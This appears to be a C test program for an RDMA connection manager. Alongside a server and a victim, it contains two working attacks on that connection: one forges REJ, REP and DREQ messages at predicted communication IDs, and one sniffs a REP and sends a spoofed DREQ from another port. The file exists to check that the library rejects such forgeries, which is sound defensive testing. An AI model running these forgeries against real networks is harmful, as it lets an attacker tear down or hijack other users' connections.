// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/*
 * Forged connection messages from another UDP port of the peer's IP.
 *
 *   cm_forge server ADDR PORT DELAY_MS HOLD_MS
 *	accepts one connection DELAY_MS after its request, holds it HOLD_MS
 *   cm_forge victim ADDR DECOY_PORT PORT HOLD_MS
 *	connects to ADDR:DECOY_PORT (refused), then to ADDR:PORT, and fails
 *	if anything but ESTABLISHED and, HOLD_MS later, DISCONNECTED at the
 *	server's DREQ happens
 *   cm_forge predict ADDR DECOY_PORT MS
 *	the decoy listener: sees the victim's first communication ID, refuses
 *	it, then for MS sprays REJs, REPs and DREQs at the IDs that follow
 *   cm_forge sniff IFNAME MS
 *	(root) watches the REP the real server sends the victim and, once the
 *	connection stands, sends a DREQ naming both IDs from its own port
 *
 * The attackers print what they sent; the victim's exit status is the
 * verdict.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <netpacket/packet.h>
#include <poll.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include <rdma/rdma_cma.h>

#include "librdmacm/cm_msg.h"
#include "tests/hostile/cm_common.h"

#define SPRAY 64 /* IDs tried after the one seen */

static int server(const char *addr, int port, int delay, int hold)
{
	struct rdma_event_channel *ch = rdma_create_event_channel();
	struct rdma_conn_param cp = { .retry_count = 7 };
	struct rdma_cm_id *lid, *cid;
	struct rdma_cm_event *ev;
	struct sockaddr_storage ss;

	if (!ch || parse_addr(addr, (uint16_t)port, &ss) ||
	    rdma_create_id(ch, &lid, NULL, RDMA_PS_TCP) ||
	    rdma_bind_addr(lid, (struct sockaddr *)&ss) || rdma_listen(lid, 4))
		die("server: listen");
	if (next_event(ch, 20000, &ev) ||
	    ev->event != RDMA_CM_EVENT_CONNECT_REQUEST)
		die("server: no request");
	cid = ev->id;
	rdma_ack_cm_event(ev);
	usleep((useconds_t)delay * 1000);
	if (make_qp(cid))
		die("rdma_create_qp");
	if (rdma_accept(cid, &cp))
		die("rdma_accept");
	if (next_event(ch, 5000, &ev) || ev->event != RDMA_CM_EVENT_ESTABLISHED)
		die("server: not established");
	rdma_ack_cm_event(ev);
	usleep((useconds_t)hold * 1000);
	rdma_disconnect(cid);
	if (!next_event(ch, 2000, &ev))
		rdma_ack_cm_event(ev);
	rdma_destroy_qp(cid);
	rdma_destroy_id(cid);
	rdma_destroy_id(lid);
	rdma_destroy_event_channel(ch);
	printf("server: accepted, held %d ms, disconnected\n", hold);
	return 0;
}

static int victim(const char *addr, int decoy, int port, int hold)
{
	struct rdma_event_channel *ch = rdma_create_event_channel();
	enum rdma_cm_event_type t;
	struct rdma_cm_event *ev;
	struct rdma_cm_id *id;
	double end;

	if (!ch || rdma_create_id(ch, &id, NULL, RDMA_PS_TCP))
		die("victim: create_id");
	t = connect_to(ch, id, addr, decoy, false, 10000);
	printf("victim: decoy answered %s\n", rdma_event_str(t));
	rdma_destroy_id(id);

	if (rdma_create_id(ch, &id, NULL, RDMA_PS_TCP))
		die("victim: create_id");
	t = connect_to(ch, id, addr, port, true, 10000);
	if (t != RDMA_CM_EVENT_ESTABLISHED) {
		printf("victim: FAIL: connect ended in %s\n",
		       rdma_event_str(t));
		return 1;
	}
	printf("victim: established\n");
	/* Nothing may happen before the server's own DREQ. */
	end = now_ms() + hold;
	if (!next_event(ch, hold + 3000, &ev)) {
		t = ev->event;
		rdma_ack_cm_event(ev);
		if (t != RDMA_CM_EVENT_DISCONNECTED || now_ms() < end - 200) {
			printf("victim: FAIL: %s %.0f ms before the server's "
			       "DREQ\n",
			       rdma_event_str(t), end - now_ms());
			return 1;
		}
		rdma_disconnect(id);
	}
	printf("victim: connection held until the server ended it\n");
	rdma_destroy_qp(id);
	rdma_destroy_id(id);
	rdma_destroy_event_channel(ch);
	return 0;
}

static void send_msg(int fd, const struct sockaddr_storage *to,
		     const struct cm_msg *m)
{
	uint8_t buf[CM_MAD_SIZE];

	if (cm_msg_encode(m, buf))
		die("cm_msg_encode");
	if (sendto(fd, buf, sizeof(buf), 0, (const struct sockaddr *)to,
		   sizeof(*to)) < 0 &&
	    errno != ECONNREFUSED)
		die("sendto");
}

static int predict(const char *addr, int port, int ms)
{
	struct sockaddr_storage me, from;
	socklen_t flen = sizeof(from);
	uint8_t buf[CM_MAD_SIZE];
	struct cm_msg req, m;
	unsigned int sent = 0;
	uint32_t seen, i;
	double end;
	ssize_t n;
	int fd;

	if (parse_addr(addr, (uint16_t)port, &me))
		return 2;
	fd = socket(me.ss_family, SOCK_DGRAM, 0);
	if (fd < 0 || bind(fd, (struct sockaddr *)&me, sizeof(me)))
		die("predict: bind");
	do {
		n = recvfrom(fd, buf, sizeof(buf), 0, (struct sockaddr *)&from,
			     &flen);
		if (n < 0)
			die("predict: recvfrom");
	} while (cm_msg_decode(buf, (size_t)n, &req) ||
		 req.attr != CM_ATTR_REQ);
	seen = req.local_id;
	printf("predict: saw the victim's ID %08x\n", seen);
	memset(&m, 0, sizeof(m));
	m.attr = CM_ATTR_REJ;
	m.remote_id = seen;
	m.reason = CM_REJ_CONSUMER_DEFINED;
	send_msg(fd, &from, &m);
	for (end = now_ms() + ms; now_ms() < end; usleep(20000)) {
		for (i = 1; i <= SPRAY; i++) {
			memset(&m, 0, sizeof(m));
			m.remote_id = seen + i;
			m.attr = CM_ATTR_REJ;
			m.reason = CM_REJ_CONSUMER_DEFINED;
			send_msg(fd, &from, &m);
			m.attr = CM_ATTR_REP;
			m.local_id = 0x5eed0000 + i;
			m.qpn = 0xabc;
			send_msg(fd, &from, &m);
			m.attr = CM_ATTR_DREQ;
			send_msg(fd, &from, &m);
			sent += 3;
		}
	}
	printf("predict: sent %u forged REJ/REP/DREQ for IDs %08x..%08x\n",
	       sent, seen + 1, seen + SPRAY);
	close(fd);
	return 0;
}

static int sniff(const char *ifname, int ms)
{
	struct sockaddr_ll ll = { .sll_family = AF_PACKET,
				  .sll_protocol = htons(ETH_P_ALL) };
	struct sockaddr_storage to = { 0 };
	struct sockaddr_in *sin = (struct sockaddr_in *)&to;
	uint8_t pkt[2048];
	struct cm_msg m, d;
	const struct iphdr *ip;
	const struct udphdr *udp;
	double end = now_ms() + ms;
	int fd, ufd;
	ssize_t n;

	ll.sll_ifindex = (int)if_nametoindex(ifname);
	/* ETH_P_ALL: a tap of one protocol sees only what comes in. */
	fd = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_ALL));
	if (fd < 0 || bind(fd, (struct sockaddr *)&ll, sizeof(ll)))
		die("sniff: packet socket");
	for (;;) {
		struct pollfd p = { .fd = fd, .events = POLLIN };

		if (now_ms() > end || poll(&p, 1, 200) < 0) {
			printf("sniff: no REP seen\n");
			return 2;
		}
		if (!p.revents)
			continue;
		n = recv(fd, pkt, sizeof(pkt), 0);
		if (n < (ssize_t)(sizeof(*ip) + sizeof(*udp)))
			continue;
		ip = (const void *)pkt;
		if (ip->version != 4 || ip->protocol != IPPROTO_UDP)
			continue;
		udp = (const void *)(pkt + ip->ihl * 4);
		if (cm_msg_decode((const uint8_t *)(udp + 1),
				  (size_t)n - ip->ihl * 4 - sizeof(*udp), &m) ||
		    m.attr != CM_ATTR_REP)
			continue;
		break;
	}
	printf("sniff: REP %08x -> %08x seen, port %u -> %u\n", m.local_id,
	       m.remote_id, ntohs(udp->source), ntohs(udp->dest));
	sin->sin_family = AF_INET;
	sin->sin_addr.s_addr = ip->daddr;
	sin->sin_port = udp->dest;
	/* From the server's IP, but not its port. */
	ufd = socket(AF_INET, SOCK_DGRAM, 0);
	if (ufd < 0)
		die("sniff: socket");
	usleep(300000); /* the victim's RTU is out: it is ESTABLISHED */
	memset(&d, 0, sizeof(d));
	d.attr = CM_ATTR_DREQ;
	d.local_id = m.local_id;
	d.remote_id = m.remote_id;
	d.remote_qpn = m.qpn;
	send_msg(ufd, &to, &d);
	d.attr = CM_ATTR_REJ;
	d.reason = CM_REJ_CONSUMER_DEFINED;
	send_msg(ufd, &to, &d);
	printf("sniff: sent a DREQ and a REJ with both IDs from another "
	       "port\n");
	close(ufd);
	close(fd);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 6 && !strcmp(argv[1], "server"))
		return server(argv[2], atoi(argv[3]), atoi(argv[4]),
			      atoi(argv[5]));
	if (argc == 6 && !strcmp(argv[1], "victim"))
		return victim(argv[2], atoi(argv[3]), atoi(argv[4]),
			      atoi(argv[5]));
	if (argc == 5 && !strcmp(argv[1], "predict"))
		return predict(argv[2], atoi(argv[3]), atoi(argv[4]));
	if (argc == 4 && !strcmp(argv[1], "sniff"))
		return sniff(argv[2], atoi(argv[3]));
	fprintf(stderr, "usage: see the comment at the top of cm_forge.c\n");
	return 2;
}
